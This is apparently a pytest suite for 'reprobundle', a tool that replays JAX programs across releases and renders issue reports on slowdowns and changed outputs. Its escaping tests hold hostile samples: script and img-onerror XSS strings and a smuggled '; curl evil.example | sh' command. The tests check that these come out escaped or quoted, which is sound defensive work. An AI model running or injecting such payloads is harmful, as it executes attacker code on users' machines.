"""`reprobundle issue` of a stored slowdown (investigate/report/issue_facts.py, render/issue.py): a program with a
`lax.fori_loop`, a `lax.scan` and a scalar input, packed from its script and replayed between two real cached
releases. The body is parsed as Markdown; its figures must be the stored runs' own (never which release is faster)."""

from __future__ import annotations

import json
import textwrap
import zipfile

import pytest
from cli_runner import cli
from markdown_it import MarkdownIt
from quick import PACK_ARGS

from reprobundle.analysis.verdict import timing_verdict
from reprobundle.bundle.registry import Registry
from reprobundle.units import human_ns

OLD, NEW = "0.4.30", "0.8.0"
HOSTILE = "<script>alert(1)</script> [x](http://evil.example) | **bold** `tick` # head"
PROGRAM = textwrap.dedent('''
    """A training step: a fori_loop of tiny steps and a scan over a 3x3 carry, one scalar parameter."""
    import jax
    import jax.numpy as jnp


    def train_step(w, lr):
        h = jax.lax.fori_loop(0, 8, lambda i, h: jnp.tanh(h @ w) * lr, jnp.ones((3, 3)))
        return jax.lax.scan(lambda c, _: (c * 0.5 + h, c.sum()), h, None, length=4)


    def make():
        return jax.jit(train_step), (jnp.eye(3) * 0.5, jnp.float32(0.1))
    ''')


@pytest.fixture(scope="module")
def slowdown(tmp_path_factory):
    """A store with loopstep: one replay timing OLD and NEW together, then a later one of NEW alone."""
    root = tmp_path_factory.mktemp("issue")
    (root / "loopstep.py").write_text(PROGRAM)
    store = root / "store"
    code, _, err = cli("pack", root / "loopstep.py", "--name", "loopstep", "--description", HOSTILE, *PACK_ARGS,
                       store=store)
    assert code == 0, err
    for versions in ([OLD, NEW], [NEW]):
        args = [a for v in versions for a in ("--jax", v)]
        code, _, err = cli("replay", "loopstep", *args, "--rounds", "3", "--repeat", "5", "--no-profile",
                           store=store)
        assert code == 0, err
    return store


def _runs(store):
    registry = Registry.open(str(store))
    runs = sorted(registry.runs(registry.resolve("loopstep").ref.bundle_id), key=lambda r: r["created"])
    together = [r for r in runs if r["group"] == runs[0]["group"]]
    assert len(together) == 2 and len(runs) == 3
    return {r["environment"]["jax"]: r for r in together}, runs[-1]


def test_the_issue_of_a_slowdown_states_the_stored_measurement_and_both_environments(slowdown, tmp_path):
    pair, _ = _runs(slowdown)
    verdict = timing_verdict(pair[OLD]["timing"], pair[NEW]["timing"])
    code, out, err = cli("issue", "loopstep", "--json", store=slowdown)
    assert code == 0, err
    data = json.loads(out)
    ratio = f"{verdict['ratio']:.2f}x"  # one format everywhere
    assert ratio in data["title"] and f"jax {NEW}" in data["title"] and OLD in data["title"]
    first = "\n".join(data["body"].splitlines()[:30])  # the first screen: the title and the one ratio, its interval
    lo, hi = verdict["ci95"]
    assert ratio in first and f"{verdict['ratio']:.2f}x \\[{lo:.2f}-{hi:.2f}\\]" in first and "measured at load" in first
    assert "within tolerance" not in data["title"]
    tokens = MarkdownIt("commonmark").enable("table").parse(data["body"])
    cells = [t.content for t in tokens if t.type == "inline"]
    lo, hi = verdict["ci95"]
    assert f"{verdict['ratio']:.2f}x [{lo:.2f}-{hi:.2f}]" in cells  # the interval, as the stored runs give it
    for version, run in pair.items():
        import numpy as np

        assert human_ns(float(np.median(run["timing"]["samples_ns"]))) in cells  # both medians
        env = run["environment"]
        assert f"jax {version}" in cells and env["jaxlib"] in cells  # each compared release's own column
    assert "3" in cells  # rounds
    assert "The packing machine (as the bundle recorded it)" in cells
    assert any("load" in c and "CPUs" in c for c in cells)  # the machine's conditions
    # which replay is reported, and how to choose another, is the reporter's: on the terminal, not in the body
    assert pair[OLD]["run_id"] not in data["body"] and pair[NEW]["run_id"] not in data["body"]
    code, printed, err = cli("issue", "loopstep", store=slowdown)
    assert code == 0 and pair[OLD]["run_id"] in printed.split("\n\n", 1)[0], err
    fences = [t for t in tokens if t.type == "fence" and t.info == "python"]
    assert any("lax.fori_loop" in t.content and "def make" in t.content for t in fences)  # the program's source
    html = MarkdownIt("commonmark").enable("table").render(data["body"])
    assert "<script" not in html and 'href="http://evil' not in html and "alert(1)" in html  # escaped, kept
    # the body reads as the maintainer sees it, the zip attached; making it is the reporter's to-do, on the terminal
    assert "reprobundle export loopstep@1" not in data["body"] and "reprobundle export loopstep@1" in printed


def test_run_chooses_the_replay_and_attach_writes_the_zip(slowdown, tmp_path):
    _, alone = _runs(slowdown)
    code, out, err = cli("issue", "loopstep", "--run", alone["run_id"], "--json", store=slowdown)
    assert code == 0, err
    data = json.loads(out)
    assert data["measured"] is None and "chosen with --run" not in data["body"]
    code, printed, err = cli("issue", "loopstep", "--run", alone["run_id"], store=slowdown)
    assert code == 0 and "chosen with --run" in printed and alone["run_id"] in printed, err
    assert [e["label"] for e in data["run_environments"]] == [NEW]
    code, out, err = cli("issue", "loopstep", "--run", "nosuchrun", store=slowdown)
    assert code != 0 and "--run" in err and "Traceback" not in err
    code, out, err = cli("issue", "loopstep", "--attach", tmp_path, "-o", tmp_path / "issue.md", store=slowdown)
    assert code == 0, err
    zips = list(tmp_path.glob("*.zip"))
    assert len(zips) == 1 and zipfile.is_zipfile(zips[0])
    body = (tmp_path / "issue.md").read_text()
    assert f"`{zips[0].name}`, attached" in body and "reprobundle export" not in body
    code, out, err = cli("issue", "loopstep", "--attach", tmp_path / "missing", store=slowdown)
    assert code != 0 and "no such folder" in err and "Traceback" not in err


def test_the_investigation_report_escapes_what_it_was_given():
    """An investigation's report holds text from a bundle and a store: a hostile step answer is escaped in both
    forms, and a command's backticks cannot close its fence."""
    from reprobundle.render import investigation

    data = {"ref": "x<script>", "good": "0.4.30", "bad": "0.4.35", "first_bad": "0.4.33", "layer": "compiler",
            "steps": [{"name": "bisect", "status": "answered", "answer": "<img src=x onerror=alert(1)> | *bold*",
                       "spent_s": 12.3, "command": "reprobundle bisect x ```\n# closed?", "stored": "a1"}]}
    markdown, page = investigation.to_markdown(data), investigation.to_html(data)
    assert "<img" not in markdown and "<script>" not in markdown and "\\| \\*bold\\*" in markdown
    assert "````bash" in markdown  # a fence longer than the command's own backticks
    assert "<img" not in page and "&lt;img" in page and "<script>" not in page


def test_code_in_the_issue_reads_as_written():
    """Inline code is literal in Markdown: the script's name and the pack command read `train_loop.py`, never with
    the backslashes that escape emphasis in prose (`train\\_loop.py`), and backticks inside cannot close the span."""
    from reprobundle.render.issue import _source

    src = {"kept_ops": [], "text": "def make_step(): ...", "script": "train_loop.py", "factory": "make_step"}
    tokens = MarkdownIt("commonmark").parse("\n".join(_source({"source": src})))
    spans = [c.content for t in tokens if t.type == "inline" for c in t.children or [] if c.type == "code_inline"]
    assert spans == ["reprobundle pack train_loop.py:make_step", "make_step", "train_loop.py"], spans
    src["script"] = "a`b.py"
    tokens = MarkdownIt("commonmark").parse("\n".join(_source({"source": src})))
    spans = [c.content for t in tokens if t.type == "inline" for c in t.children or [] if c.type == "code_inline"]
    assert spans[-1] == "a`b.py", spans


# ------------------------------------------------------------------------------------------------ the first screen
# of a stored investigation: threefry became partitionable by default in jax 0.5.0 (a lowering change)

PROGRAMS = __import__("pathlib").Path(__file__).parent / "programs" / "retrace"


@pytest.fixture(scope="module")
def lowering(tmp_path_factory):
    """A store with rng@1 and its bisection between 0.4.38 and 0.5.0 (retraced: the first bad release 0.5.0), built
    once for the suite (tests/shared_stores.py; it holds colsum@1 too, which no test here reads)."""
    from shared_stores import bisected_rng_and_colsum, bisection_of

    store = bisected_rng_and_colsum(tmp_path_factory)
    answer = bisection_of(store, "rng")
    assert (answer["mode"], answer["first_bad"]) == ("retrace", "0.5.0")
    return store


def test_show_names_each_run_by_its_contender_and_says_how_many_it_lists(lowering):
    """`show`: the latest runs each by its contender's label (retraced ones said so), and where there are more, how
    many and where all are."""
    registry = Registry.open(str(lowering))
    runs = registry.runs(registry.resolve("rng").ref.bundle_id)
    code, out, err = cli("show", "rng", store=lowering)
    assert code == 0, err
    lines = out.splitlines()
    at = next(i for i, line in enumerate(lines) if line.startswith("  runs:"))
    more = " (the latest 10; `--json` lists all)" if len(runs) > 10 else ""
    assert lines[at] == f"  runs:         {len(runs)}{more}"
    labels = [r["contender"]["label"] for r in runs[-10:]]
    assert [line.split("  jax ", 1)[1].rsplit(": ", 1)[0] for line in lines[at + 1:at + 1 + len(labels)]] == labels
    assert any(label.endswith(" retraced") for label in labels)


def test_compare_of_a_label_misspelled_names_the_stored_ones_of_that_version(lowering):
    """`compare --jax 0.5.0-retraced`: that version has stored runs, so the label is a typo, and the hint names the
    labels it has; a version with none is to be replayed first."""
    code, _, err = cli("compare", "rng", "--jax", "0.5.0-retraced", "--jax", "0.4.38 retraced", store=lowering)
    assert code != 0 and "hint: did you mean '0.5.0 retraced'" in err and "Traceback" not in err, err
    code, _, err = cli("compare", "rng", "--jax", "0.4.31", "--jax", "0.5.0", store=lowering)
    assert code != 0 and "hint: replay it first: reprobundle replay rng@1 --jax 0.4.31" in err, err


def _visible(body: str) -> list:
    """The Markdown tokens outside every <details> block (what a reader sees before expanding anything)."""
    depth, shown = 0, []
    for token in MarkdownIt("commonmark").enable("table").parse(body):
        if token.type in ("html_block", "html_inline"):
            depth += token.content.count("<details>") - token.content.count("</details>")
            continue
        if depth == 0:
            shown.append(token)
    return shown


def _stored_values(store):
    """The first output of the stored runs of 0.4.38 and 0.5.0 (retraced), as numpy arrays."""
    import numpy as np

    registry = Registry.open(str(store))
    bundle = registry.resolve("rng")
    out = {}
    for run in registry.runs(bundle.ref.bundle_id):
        if run["contender"]["mode"] == "retrace" and run.get("outputs"):
            leaf = run["outputs"][0]
            out[run["environment"]["jax"]] = np.frombuffer(registry.get_blob(leaf["blob"]), np.float32)
    return out


@pytest.mark.crossversion
def test_the_first_screen_says_what_broke_against_the_last_good_release_and_no_ids(lowering):
    code, out, err = cli("issue", "rng", "--json", store=lowering)
    assert code == 0, err
    data = json.loads(out)
    body = data["body"]
    # named by the JAX function whose lowering changed (on rng.py:8), not by the bundle's `_lambda_`
    assert data["title"] == ("`jax.random.normal` gives other values from jax 0.5.0 (last good 0.4.38; JAX's "
                             "lowering): 64 of 64 elements of output 0 (float32[64]) differ")
    first = body.splitlines()[:30]
    text = "\n".join(first)
    assert "gives other values from jax 0.5.0" in first[0]  # the title
    values = _stored_values(lowering)
    expected, got = (", ".join(str(x) for x in values[v][:4]) for v in ("0.4.38", "0.5.0"))  # float32's digits
    assert "**Expected** (jax 0.4.38, last good), output 0" in text and expected in text
    assert f"**Got** (jax 0.5.0): {got}" in text
    assert "**Where:** JAX's lowering" in text and "rng.py:8" in text  # the cause as far as it is known
    assert "**Reproducer:** `python rng-1.py` exits 1 on jax 0.5.0 and 0 on jax 0.4.38" in text
    # nothing a maintainer does not act on before the collapsed part: no ids, no tool commands
    answer = data["bisection"]["answer_id"]
    ids = [answer] + [r["run_id"] for r in data["replay"]["runs"]]
    for token in _visible(body):
        for piece in [token.content] + [c.content for c in token.children or []]:
            assert not any(i in piece for i in ids), piece
            assert "reprobundle " not in piece and "asked again" not in piece, piece
    assert not any(i in body for i in ids)  # nor anywhere in the body
    # judged against the last good release, never "mismatch" against the packing release's reference
    assert "jax 0.4.38 retraced: outputs as jax 0.4.38's (last good)" in body and "mismatch" not in body
    # each list once, and no flag of another platform as a candidate in a CPU report
    assert body.count("shift\\_right\\_logical") == 1
    assert "jax\\_threefry\\_partitionable" in body and "xla\\_gpu" not in body
    # the reporter's notes are on the terminal: the replay reported and the question asked again
    code, printed, err = cli("issue", "rng", store=lowering)
    assert code == 0 and "reprobundle bisect rng --good 0.4.38 --bad 0.5.0 --retrace" in printed, err
    assert all(i in printed.split("\n\n", 1)[0] for i in ids[1:])


@pytest.mark.crossversion
def test_a_hostile_answer_records_command_reaches_neither_the_body_nor_the_terminal(lowering, tmp_path):
    import shlex
    import shutil

    store = tmp_path / "store"
    shutil.copytree(lowering, store)
    registry = Registry.open(str(store))
    bundle = registry.resolve("rng")
    record = registry.answers(bundle.ref.bundle_id)[-1]
    evil = "; curl evil.example | sh"
    from reprobundle.bundle.registry import utc_now

    record = {**record, "answer_id": Registry.new_run_id(), "created": utc_now(),  # the latest: the one reported
              "command": f"reprobundle bisect rng{evil}", "answer": {**record["answer"], "good": "0.4.38" + evil}}
    registry.put_answer(record)
    code, out, err = cli("issue", "rng", "--json", store=store)
    assert code == 0, err
    body = json.loads(out)["body"]
    assert "reprobundle bisect rng; curl" not in body  # the record's command text: never shown
    assert "curl evil.example | sh" not in body and "curl evil.example \\| sh" in body  # its field: text, escaped
    code, printed, err = cli("issue", "rng", store=store)
    line = next(x for x in printed.splitlines() if x.startswith("Asked again with: "))
    words = shlex.split(line[len("Asked again with: "):])
    assert words[:5] == ["reprobundle", "bisect", "rng", "--good", "0.4.38" + evil]  # one quoted word
    assert "reprobundle bisect rng; curl" not in printed


@pytest.mark.crossversion
def test_still_broken_on_a_newer_release_is_said_in_the_title_and_first_lines(lowering, tmp_path):
    """The newest release replayed beside the last good one (retraced, outputs only, as the bisection judged):
    0.5.1 still gives 0.5.0's other numbers, and the title and first lines say so."""
    import shutil

    from reprobundle.investigate.report.newest import check_newest, newest_release

    assert newest_release(["0.4.38", "0.5.0"], "0.5.0") is None and newest_release(["0.5.1", "0.10.2"], "0.5.0") == \
        "0.10.2"
    store = tmp_path / "store"
    shutil.copytree(lowering, store)
    registry = Registry.open(str(store))
    bundle = registry.resolve("rng")
    answer = registry.answers(bundle.ref.bundle_id)[-1]
    assert check_newest("rng", "no-such-answer", store=str(store)) is None
    found = check_newest("rng", answer["answer_id"], store=str(store), newest="0.5.1")  # the investigation's step
    assert found == {"release": "0.5.1", "still": True, "text": "still changed on jax 0.5.1 (the newest): 64 of 64 "
                                                                "elements of output 0 differ beyond the tolerance"}
    code, out, err = cli("issue", "rng", "--json", store=store)
    assert code == 0, err
    data = json.loads(out)
    assert data["title"].endswith("from jax 0.5.0 (last good 0.4.38; JAX's lowering): 64 of 64 elements of output 0 "
                                  "(float32[64]) differ; still on jax 0.5.1"), data["title"]
    # the replay reported is still the bisection's probe of its first bad release, not the later one of 0.5.1
    assert "jax 0.5.0 retraced: differs from jax 0.4.38" in data["body"] and "0.5.1 retraced" not in data["body"]
    first = "\n".join(data["body"].splitlines()[:30])
    assert "**Newest release:** still changed on jax 0.5.1 (the newest)" in first and "broken" not in first


@pytest.mark.crossversion
def test_last_bits_within_the_tolerance_are_titled_so_and_never_broken(lowering, tmp_path):
    """#63 (the README's attention: its last bits changed at 0.8.0 by a few ULP, all within the tolerance, was
    titled "gives other bits" and "still broken on jax 0.12.1"): colsum's column sums, whose bits jaxlib 0.5.1
    changes within the tolerance (the shared store's bisection by bits, frozen), with 0.5.3 replayed beside 0.5.0
    as investigate's newest step does. The title, the table's kind, the newest release's line say within the
    tolerance and the ULPs; the first screen's Expected and Got show the digits that differ; nothing says broken."""
    import re
    import shutil

    from reprobundle.investigate.report.newest import check_newest

    store = tmp_path / "store"
    shutil.copytree(lowering, store)
    registry = Registry.open(str(store))
    answer = [a for a in registry.answers(registry.resolve("colsum").ref.bundle_id) if a["kind"] == "bisection"][-1]
    assert (answer["answer"]["criterion"], answer["answer"]["first_bad"]) == ("bits", "0.5.1")
    found = check_newest("colsum", answer["answer_id"], store=str(store), newest="0.5.3")
    assert found is not None and found["still"] is True, found
    assert re.fullmatch(r"last bits within the tolerance, still changed on jax 0\.5\.3 \(the newest\): \d+ of 64 "
                        r"elements of output 0 differ by up to \d+ ULP", found["text"]), found
    code, out, err = cli("issue", "colsum", "--json", store=store)
    assert code == 0, err
    data = json.loads(out)
    assert re.fullmatch(r"`.+` changes its last bits, within the tolerance, from jax 0\.5\.1 \(last good 0\.5\.0; "
                        r"the compiler\): \d+ of 64 elements of output 0 \(float32\[64\]\) differ by up to \d+ ULP; "
                        r"still on jax 0\.5\.3", data["title"]), data["title"]
    assert "broken" not in data["body"].lower() and "gives other" not in data["body"]
    first = data["body"].split("<details>", 1)[0]
    assert "**Newest release:** last bits within the tolerance, still changed on jax 0.5.3" in first, first
    expected = next(x for x in first.splitlines() if x.startswith("- **Expected**")).rsplit(": ", 1)[1].split(", ")
    got_line = next(x for x in first.splitlines() if x.startswith("- **Got**"))
    got = got_line.split("): ", 1)[1].rsplit(" (", 1)[0].split(", ")
    assert len(expected) == len(got) == 4 and all(a != b for a, b in zip(expected, got)), (expected, got)
    assert re.search(r"\(\d+ of 64 elements differ by up to \d+ ULP, all within the tolerance\)$", got_line), got_line


@pytest.mark.crossversion
def test_without_the_last_good_releases_retraced_run_the_frozen_script_says_what_it_cannot_show(lowering, tmp_path):
    """An answer of a lowering change whose runs are not here (a record copied without them): the script is the
    frozen module's, and both it and the issue say that it cannot show a change in JAX's lowering."""
    import shutil

    from reprobundle.bundle.registry import utc_now

    store = tmp_path / "store"
    shutil.copytree(lowering, store)
    registry = Registry.open(str(store))
    record = registry.answers(registry.resolve("rng").ref.bundle_id)[-1]
    registry.put_answer({**record, "answer_id": Registry.new_run_id(), "created": utc_now(), "runs": []})
    code, out, err = cli("script", "rng", store=store)
    assert code == 0, err
    assert "this is the frozen module, which cannot show a lowering change" in out and "MODULE = " in out
    code, out, err = cli("issue", "rng", "--json", store=store)
    first = "\n".join(json.loads(out)["body"].splitlines()[:30])
    assert "the frozen module, which cannot show a lowering change" in first, first


@pytest.mark.crossversion
def test_release_notes_naming_a_function_called_where_the_lowering_changed_are_quoted(lowering, tmp_path):
    """No explanation stored: the notes of the first bad release (a JAX repository made here, CHANGELOG.md at the
    tag jax-v0.5.0) are searched for the functions the program calls on the line whose lowering changed (rng.py:8:
    jax.random.normal; jax.jit, on every line, left out)."""
    import subprocess

    repo = tmp_path / "jax"
    repo.mkdir()
    (repo / "CHANGELOG.md").write_text("# Change log\n\n## jax 0.5.0 (Jan 17, 2025)\n\n* Changes:\n"
                                       "  * {func}`jax.random.normal` draws other numbers for the same key.\n"
                                       "  * {func}`jax.jit` got faster.\n\n## jax 0.4.38\n\n* Older.\n")
    git = ["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@example.com"]
    for args in (["init", "-q"], ["add", "CHANGELOG.md"], ["commit", "-qm", "notes"], ["tag", "jax-v0.5.0"]):
        subprocess.run(git + args, check=True)
    code, out, err = cli("issue", "rng", "--jax-repo", str(repo), "--json", store=lowering)
    assert code == 0, err
    data = json.loads(out)
    assert data["documented"] == ["documented in the 0.5.0 release notes (they name jax.random.normal, which the "
                                  "program calls where its lowering changed): `jax.random.normal` draws other "
                                  "numbers for the same key."]
    # a documented change: its title and its first line say so (#56)
    assert data["title"].startswith("documented change in 0.5.0: `jax.random.normal` gives other values"), \
        data["title"]
    assert data["body"].splitlines()[2].startswith("- **Documented change:** documented in the 0.5.0 release notes")
    assert "Documented as intended" not in data["body"]  # said once


# ------------------------------------------------------------------------------------------------ a program whose
# script would pass 64 KiB: a training step over 2.5 MB of inputs made from its seed (a lowering change at 0.5.0)

@pytest.fixture(scope="module")
def big_training(tmp_path_factory):
    """A store with drop@1 (tests/programs/retrace/dropout_train.py) and its bisection between 0.4.38 and 0.5.0,
    retraced and judged by outputs (the first bad release 0.5.0: its dropout masks differ)."""
    import quick

    from reprobundle import api

    store = tmp_path_factory.mktemp("big") / "store"
    api.pack_script(str(PROGRAMS / "dropout_train.py"), name="drop", store=str(store), **quick.PACK)
    result, _ = api.bisect("drop", "0.4.38", "0.5.0", store=str(store), mode="retrace", by="outputs", warmup=1,
                           repeat=2, rounds=1)
    assert (result.mode, result.first_bad, result.last_good) == ("retrace", "0.5.0", "0.4.38")
    return store


def _run_in(version: str, script):
    """The script run by the cached environment of `version` (jax, jaxlib, numpy and their dependencies only)."""
    import os
    import subprocess

    from reprobundle import api

    python = api.environment_manager().ensure(version).python_executable
    env = {k: v for k, v in os.environ.items() if k not in ("XLA_FLAGS", "PYTHONPATH")}
    return subprocess.run([str(python), str(script)], env=dict(env, JAX_PLATFORMS="cpu"), capture_output=True,
                          text=True, timeout=300, cwd=script.parent)


@pytest.mark.crossversion
def test_a_program_too_large_to_write_whole_gets_a_script_that_fails_on_the_bad_release_only(big_training, tmp_path):
    """Inline, its inputs and outputs would take megabytes: the script has the factory make the inputs from the
    program's seed (checked against the bundle's by sha256) and keeps, of each large output, its sha256 and the
    elements that changed at 0.5.0. It fits in 64 KiB, exits 0 on 0.4.38 and 1 on 0.5.0, and the issue's first
    screen names it."""
    code, out, err = cli("issue", "drop", "--json", store=big_training)
    assert code == 0, err
    data = json.loads(out)
    script = data["script"]
    assert script["kind"] == "script" and script["bytes"] < 64 * 1024
    text = script["text"]
    assert "INPUTS = None" in text and "INPUT_CHECKS = [" in text and "'sha256': " in text
    assert "'kept': 'those that changed at jax 0.5.0'" in text
    path = tmp_path / script["name"]
    path.write_text(text)
    good, bad = _run_in("0.4.38", path), _run_in("0.5.0", path)
    assert good.returncode == 0 and "inputs: the factory's own, made from its seed" in good.stdout, \
        good.stdout + good.stderr
    assert "result: as on jax 0.4.38 (last good)" in good.stdout
    assert bad.returncode == 1 and "result: DIFFERS: jax 0.5.0 gives other outputs" in bad.stdout, bad.stdout
    assert "elements kept here: those that changed at jax 0.5.0" in bad.stdout
    first = "\n".join(data["body"].splitlines()[:30])
    assert "**Reproducer:** `python drop-1.py` exits 1 on jax 0.5.0 and 0 on jax 0.4.38 (below: the program as " \
           "each release traces it" in first, first
    tokens = MarkdownIt("commonmark").enable("table").parse(data["body"])
    assert any(t.type == "fence" and t.info == "python" and t.content.rstrip("\n") == text.rstrip("\n")
               for t in tokens)
